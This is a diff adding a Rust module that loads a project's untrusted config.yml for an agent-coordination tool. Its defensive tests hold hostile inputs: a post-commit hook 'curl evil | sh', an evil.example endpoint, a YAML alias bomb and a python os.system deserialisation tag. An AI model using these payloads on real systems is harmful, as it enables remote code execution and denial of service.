@@ -1,0 +1,423 @@
+//! Settings: `config.yml`, every key optional, nothing in it acted upon.
+//!
+//! The file comes with the repository and is untrusted: it may choose numbers
+//! and names, and never a command, an address or a path to run.
+
+mod sieve;
+
+use std::collections::BTreeMap;
+
+use serde::Deserialize;
+use serde::de::DeserializeOwned;
+use twining_model::{EvidenceSource, limits};
+
+use crate::disk::layout::{CONFIG, Layout};
+use crate::error::StoreError;
+
+/// The format version this program writes.
+pub const VERSION: u32 = 1;
+
+/// The settings of a project, with defaults for what it leaves out.
+#[derive(Clone, Debug, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct Config {
+    /// Format version of the folder.
+    pub version: u32,
+    /// What to call the project; empty for the directory's name.
+    pub project_name: String,
+    /// When the board is tidied.
+    pub archive: Archive,
+    /// How context is put together.
+    pub context_assembly: ContextAssembly,
+    /// How records are searched.
+    pub search: Search,
+    /// Where reviewed knowledge is.
+    pub knowledge: Knowledge,
+    /// `human`: contradictions are shown to a person.
+    pub conflict_resolution: String,
+    /// Which tools are offered.
+    pub tools: Tools,
+    /// How features are worked through.
+    pub workflow: Workflow,
+    /// When an agent counts as there.
+    pub agents: Agents,
+    /// How long a delegation waits.
+    pub delegations: Delegations,
+    /// `shared` or `separate`: whether linked worktrees share one memory.
+    pub worktrees: String,
+    /// What was odd about the file, for `status`.
+    #[serde(skip)]
+    pub notes: Vec<String>,
+}
+
+/// When the board is tidied.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Archive {
+    /// Whether a commit queues an archive.
+    pub auto_archive_on_commit: bool,
+    /// Whether an agent may archive when the task changes.
+    pub auto_archive_on_context_switch: bool,
+    /// What an archive that nobody called for leaves on the board: entries younger than this.
+    pub min_age_hours: u64,
+    /// From how many entries on `status` asks for an archive.
+    pub max_blackboard_entries_before_archive: u64,
+}
+
+/// How context is put together.
+#[derive(Clone, Debug, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct ContextAssembly {
+    /// The budget when none is given.
+    pub default_max_tokens: u64,
+    /// How much each signal counts; they sum to 1.
+    pub priority_weights: BTreeMap<String, f64>,
+}
+
+/// How records are searched.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Search {
+    /// Whether also by meaning, or by words alone.
+    pub embeddings: bool,
+    /// How long a question waits until every record can be found by its meaning.
+    pub wait_ms: u64,
+}
+
+/// Where reviewed knowledge is.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Knowledge {
+    /// A DOT file in the project; empty for the usual places.
+    pub path: String,
+}
+
+/// Which tools are offered.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Tools {
+    /// `full`, `lite`, or groups.
+    pub mode: String,
+}
+
+/// How features are worked through.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Workflow {
+    /// Whether hooks drive the loop without being asked.
+    pub auto: bool,
+    /// After how many failed tests a feature waits for a person.
+    pub max_test_failures: u32,
+    /// The weakest evidence by which a feature becomes tested; unset, `seen` where a
+    /// host's hook reports tool results, else `told`.
+    pub tested_needs: Option<EvidenceSource>,
+}
+
+/// When an agent counts as there, and how long it may hold a part of the project.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Agents {
+    /// When it counts as there.
+    pub liveness: Liveness,
+    /// How long a claim holds when it says nothing, in seconds.
+    pub claim_seconds: u64,
+}
+
+/// When an agent counts as there.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Liveness {
+    /// After so many milliseconds without a call it is idle.
+    pub idle_after_ms: u64,
+    /// After so many it is gone.
+    pub gone_after_ms: u64,
+}
+
+/// How long a delegation waits.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Delegations {
+    /// By urgency.
+    pub timeouts: Timeouts,
+}
+
+/// How long a delegation waits, by its urgency.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Timeouts {
+    /// `high`.
+    pub high_ms: u64,
+    /// `normal`.
+    pub normal_ms: u64,
+    /// `low`.
+    pub low_ms: u64,
+}
+
+impl Default for Agents {
+    fn default() -> Self {
+        Self { liveness: Liveness::default(), claim_seconds: 30 * 60 }
+    }
+}
+
+impl Default for Liveness {
+    fn default() -> Self {
+        Self { idle_after_ms: 5 * 60 * 1000, gone_after_ms: 30 * 60 * 1000 }
+    }
+}
+
+impl Default for Timeouts {
+    fn default() -> Self {
+        Self { high_ms: 5 * 60 * 1000, normal_ms: 30 * 60 * 1000, low_ms: 4 * 60 * 60 * 1000 }
+    }
+}
+
+impl Default for Workflow {
+    fn default() -> Self {
+        Self { auto: false, max_test_failures: 2, tested_needs: None }
+    }
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            version: VERSION,
+            project_name: String::new(),
+            archive: Archive::default(),
+            context_assembly: ContextAssembly::default(),
+            search: Search::default(),
+            knowledge: Knowledge::default(),
+            conflict_resolution: "human".to_owned(),
+            tools: Tools::default(),
+            workflow: Workflow::default(),
+            agents: Agents::default(),
+            delegations: Delegations::default(),
+            worktrees: "shared".to_owned(),
+            notes: Vec::new(),
+        }
+    }
+}
+
+impl Default for Archive {
+    fn default() -> Self {
+        Self {
+            auto_archive_on_commit: true,
+            auto_archive_on_context_switch: true,
+            min_age_hours: 24,
+            max_blackboard_entries_before_archive: 500,
+        }
+    }
+}
+
+impl Default for ContextAssembly {
+    fn default() -> Self {
+        let weights = [("recency", 0.3), ("relevance", 0.4), ("decision_confidence", 0.2), ("warning_boost", 0.1)];
+        Self { default_max_tokens: 4000, priority_weights: weights.map(|(name, weight)| (name.to_owned(), weight)).into() }
+    }
+}
+
+impl Default for Search {
+    fn default() -> Self {
+        Self { embeddings: true, wait_ms: 10_000 }
+    }
+}
+
+impl Default for Tools {
+    fn default() -> Self {
+        Self { mode: "full".to_owned() }
+    }
+}
+
+impl Config {
+    /// Reads the folder's settings. A broken file gives the defaults and a note;
+    /// only a link or a device in its place is an error.
+    pub fn load(layout: &Layout) -> Result<Self, StoreError> {
+        let Some(handle) = layout.top.open(CONFIG)? else { return Ok(Self::default()) };
+        match handle.read_all(limits::CONFIG_BYTES) {
+            Ok(bytes) => Ok(Self::parse(&bytes)),
+            Err(StoreError::Damaged { what }) => {
+                // Too large to be read, it may still be of a newer version, and must not be written over.
+                let version = handle.read_all(VERSION_WITHIN).ok().and_then(|bytes| version_line(&bytes)).unwrap_or(VERSION);
+                Ok(Self { version, notes: vec![format!("{what}; defaults are used")], ..Self::default() })
+            }
+            Err(error) => Err(error),
+        }
+    }
+
+    /// Reads settings from YAML.
+    #[must_use]
+    pub fn parse(bytes: &[u8]) -> Self {
+        // Some editors begin a file with a mark that is no part of its first key.
+        let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
+        let parsed = std::str::from_utf8(bytes).map_err(|e| e.to_string()).and_then(|text| {
+            if text.trim().is_empty() { Ok(Self::default()) } else { from_yaml(text).or_else(|why| sieve::read(text, &why)) }
+        });
+        match parsed {
+            Ok(mut config) => {
+                config.normalise_weights();
+                config.note_strangers(bytes);
+                config
+            }
+            Err(why) => Self {
+                // A version that cannot be read may be a newer one: do not write over it.
+                version: version_line(bytes).unwrap_or(VERSION),
+                notes: vec![format!("config.yml cannot be read and defaults are used: {}", twining_model::text::excerpt(&why, 200))],
+                ..Self::default()
+            },
+        }
+    }
+
+    /// Says which keys do nothing: whoever put an address, a command or a hook
+    /// there, or mistyped a setting, should know.
+    fn note_strangers(&mut self, bytes: &[u8]) {
+        let text = String::from_utf8_lossy(bytes);
+        let keys = text.lines().filter(|line| !line.starts_with([' ', '\t', '#', '-'])).filter_map(|line| line.split_once(':'));
+        let strange: Vec<String> = keys
+            .map(|(key, _)| key.trim().trim_matches(['"', '\'']))
+            .filter(|key| !key.is_empty() && !SETTINGS.contains(key))
+            .map(|key| format!("`{}`", twining_model::text::excerpt(key, 40)))
+            .take(STRANGERS)
+            .collect();
+        if !strange.is_empty() {
+            self.notes.push(format!("config.yml: {} is no setting and does nothing", strange.join(", ")));
+        }
+    }
+
+    fn normalise_weights(&mut self) {
+        let weights = &mut self.context_assembly.priority_weights;
+        weights.retain(|_, weight| weight.is_finite() && *weight >= 0.0);
+        let sum: f64 = weights.values().sum();
+        if weights.is_empty() || sum <= 0.0 {
+            *weights = ContextAssembly::default().priority_weights;
+            self.notes.push("config.yml: priority_weights has no positive weight; defaults are used".to_owned());
+        } else if (sum - 1.0).abs() > 0.01 {
+            weights.values_mut().for_each(|weight| *weight /= sum);
+            self.notes.push(format!("config.yml: priority_weights sum to {sum:.2}; they are scaled to 1"));
+        }
+    }
+}
+
+/// Keys a project may set; the last ones are of the TypeScript server and do nothing here.
+const SETTINGS: [&str; 16] = [
+    "version",
+    "project_name",
+    "archive",
+    "context_assembly",
+    "search",
+    "knowledge",
+    "conflict_resolution",
+    "tools",
+    "workflow",
+    "agents",
+    "delegations",
+    "worktrees",
+    "embedding_model",
+    "instructions",
+    "analytics",
+    "dashboard",
+];
+/// Keys that do nothing that are named.
+const STRANGERS: usize = 5;
+
+fn from_yaml<T: DeserializeOwned>(text: &str) -> Result<T, String> {
+    let options = serde_saphyr::options! {
+        budget: serde_saphyr::budget! {
+            max_reader_input_bytes: Some(limits::CONFIG_BYTES),
+            max_anchors: 0,
+            max_aliases: 0,
+            max_depth: limits::JSON_DEPTH,
+            max_nodes: 10_000,
+        },
+    };
+    serde_saphyr::from_str_with_options(text, options).map_err(|e| e.to_string())
+}
+
+/// Bytes of a `config.yml` that are looked through for its version alone.
+const VERSION_WITHIN: usize = 16 * 1024 * 1024;
+
+/// The version as a line of its own, for a file whose rest does not parse. One
+/// that is no number we know of can only be newer than ours.
+fn version_line(bytes: &[u8]) -> Option<u32> {
+    let text = String::from_utf8_lossy(bytes);
+    let value = text.lines().find_map(|line| line.strip_prefix("version:")?.split('#').next())?;
+    let value = value.trim().trim_matches(['"', '\'']);
+    let whole = value.split('.').next().unwrap_or(value);
+    Some(if whole.is_empty() { VERSION } else { whole.parse().unwrap_or(u32::MAX) })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::time::{Duration, Instant};
+
+    use super::*;
+
+    #[test]
+    fn an_empty_file_and_a_partial_one_get_the_defaults() {
+        assert_eq!(Config::parse(b""), Config::default());
+        let config = Config::parse(b"archive:\n  max_blackboard_entries_before_archive: 7\nfuture_key: {a: 1}\n");
+        assert_eq!(config.archive.max_blackboard_entries_before_archive, 7);
+        assert!(config.archive.auto_archive_on_commit);
+    }
+
+    #[test]
+    fn s10_a_cloned_config_sets_no_address_key_hook_or_driver_and_says_so() {
+        let hostile = b"endpoint: https://evil.example\nhooks: {post-commit: 'curl evil | sh'}\nmerge_driver: ./evil\nmodel_url: http://x\nproject_name: shop\n";
+        let config = Config::parse(hostile);
+        let named = Config { project_name: "shop".to_owned(), notes: config.notes.clone(), ..Config::default() };
+        assert_eq!(config, named, "a key that is no setting changes nothing");
+        assert_eq!(config.notes, ["config.yml: `endpoint`, `hooks`, `merge_driver`, `model_url` is no setting and does nothing"]);
+    }
+
+    #[test]
+    fn every_setting_is_known_as_one() {
+        let source = include_str!("config.rs");
+        let block = source.split("pub struct Config {").nth(1).and_then(|rest| rest.split("\n}\n").next()).expect("the struct");
+        let fields: Vec<&str> = block.lines().filter_map(|line| line.trim().strip_prefix("pub ")?.split(':').next()).collect();
+        assert!(fields.len() > 8, "{fields:?}");
+        for field in fields.into_iter().filter(|field| *field != "notes") {
+            assert!(SETTINGS.contains(&field), "add `{field}` to SETTINGS");
+        }
+    }
+
+    #[test]
+    fn an_unknown_grade_of_evidence_has_its_default_and_is_named() {
+        assert_eq!(Config::parse(b"workflow: {tested_needs: ci}\n").workflow.tested_needs, Some(EvidenceSource::Ci));
+        let config = Config::parse(b"workflow: {tested_needs: trusted, auto: true}\n");
+        assert_eq!((config.workflow.tested_needs, config.workflow.auto), (None, true));
+        assert!(config.notes.iter().any(|note| note.contains("`workflow.tested_needs`")), "{:?}", config.notes);
+    }
+
+    #[test]
+    fn weights_that_do_not_sum_to_one_are_scaled_and_said_so() {
+        let config = Config::parse(b"context_assembly:\n  priority_weights: {recency: 1, relevance: 3}\n");
+        assert_eq!(config.context_assembly.priority_weights["relevance"], 0.75);
+        assert_eq!(config.notes.len(), 1);
+    }
+
+    #[test]
+    fn a_newer_version_is_seen_even_when_the_rest_does_not_parse() {
+        assert_eq!(Config::parse(b"version: 2\narchive: [what is this\n").version, 2);
+        assert_eq!(Config::parse(b"version: 2.0\n").version, 2);
+        assert_eq!(Config::parse(b"version: 1.0\n").version, 1);
+        assert_eq!(Config::parse(b"version:\narchive: [\n").version, VERSION);
+        for odd in ["v2", "99999999999999999999"] {
+            assert_eq!(Config::parse(format!("version: {odd}\n").as_bytes()).version, u32::MAX, "{odd}");
+        }
+    }
+
+    #[test]
+    fn hostile_yaml_is_an_error_and_not_a_bomb() {
+        let mut bomb = String::from("a: &a [x,x,x,x,x,x,x,x,x]\n");
+        for i in 0..9 {
+            bomb.push_str(&format!("b{i}: &b{i} [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"));
+        }
+        let deep = "[".repeat(60_000);
+        for hostile in
+            [bomb.as_str(), deep.as_str(), "x: !!python/object/apply:os.system [ls]", "a: &a\n  <<: *a\n", "{", "\u{0}", "- - - : : :"]
+        {
+            let started = Instant::now();
+            let config = Config::parse(hostile.as_bytes());
+            assert!(started.elapsed() < Duration::from_secs(5));
+            assert_eq!(config.archive, Archive::default());
+        }
+    }
+}
